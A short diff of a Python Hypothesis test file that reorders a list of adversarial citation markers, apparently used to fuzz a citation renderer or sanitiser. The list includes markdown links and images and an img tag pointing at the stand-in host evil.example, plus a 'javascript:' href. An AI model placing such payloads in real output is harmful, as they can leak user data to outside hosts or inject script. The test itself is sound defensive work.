@@ -32,9 +32,9 @@ quotes_of_sources = st.builds(lambda text, change: change(text), st.sampled_from
 _MARKS = [
     "[1]", "[2]", "[3]", "[99]", "[0]", "[1][1]", "[1, 2]", "[1-9]", "[E1]", "【1】", "【9†x】",
     "[[9]1]", "[1[9]]", "[１]", "[¹]", "［1］", "\\[1\\]", "\\\\[9]", "`[9]`", "``a [9] `",
-    "[1](http://evil.example/?q=x)", "![x](http://evil.example/?q=x)", "http://evil.example/", "&#91;9]",
+    "[1](http://evil.example/?q=x)", "![x](http://evil.example/?q=x)", "http://evil.example/",
     "<img src=//evil.example>", "<a href='javascript:x'>y</a>", "\n", "\n\n", "    ", "```\n", "|",
-    "\n---|---\n", "\0", "\ud800", "\ue0009\ue001", "x" * 3_000, "[" * 50,
+    "\n---|---\n", "\0", "\ud800", "\ue0009\ue001", "x" * 3_000, "[" * 50, "&#91;9]",
 ]  # fmt: skip
 _marks = st.sampled_from(["[1]", "[2]"]) | st.sampled_from(_MARKS)
 answers = st.lists(
